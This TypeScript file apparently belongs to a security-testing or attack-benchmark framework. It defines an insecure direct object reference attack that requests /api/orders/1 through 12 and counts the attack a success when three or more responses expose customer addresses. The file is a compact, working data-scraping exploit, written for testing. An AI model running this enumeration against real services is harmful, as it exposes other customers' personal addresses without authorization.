import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Collects the addresses of other customers by counting orders. */
export const idorOrders: Attack = defineAttack({
  id: 'idor-orders',
  class: 'broken-access-control',
  title: 'Collects the addresses of other customers by counting orders',
  cwe: 639,
  capec: 122,
  technique: 'T1213',
  preconditions: [],

  steps: async ({ visitor }) => {
    const found: string[] = []
    for (let id = 1; id <= 12; id++) {
      const answer = await visitor.get(`/api/orders/${id}`)
      if (answer.status === 200) found.push(answer.text)
    }
    return found
  },
  oracle: (found) => found.filter((text) => text.includes('"address"')).length >= 3,
  twin: ({ visitor }) => visitor.get('/api/products/3'),
})
